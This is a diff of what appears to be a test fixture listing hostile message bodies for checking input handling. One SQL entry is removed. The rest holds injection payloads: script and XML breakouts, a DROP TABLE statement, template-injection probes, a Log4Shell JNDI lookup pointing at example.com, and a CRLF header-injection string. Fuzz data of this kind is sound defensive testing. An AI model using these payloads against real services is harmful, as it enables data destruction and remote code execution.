@@ -42,7 +42,6 @@ BODIES = {
     "markup": "</Message><Message>free</Message><script>alert(1)</script>&amp;&nbsp;",
     "cdata": "]]><!--",
     "sql": "'; DROP TABLE contacts; --",
-    "contacts": "UPDATE contacts SET name=0; SELECT * FROM contacts",
     "template": "{line} {0} {line.__class__} %s %(x)s ${x} {{7*7}}",
     "log4j": "${jndi:ldap://example.com/a}",
     "newlines": "CHECKIN\r\n\r\nX-Header: 1",
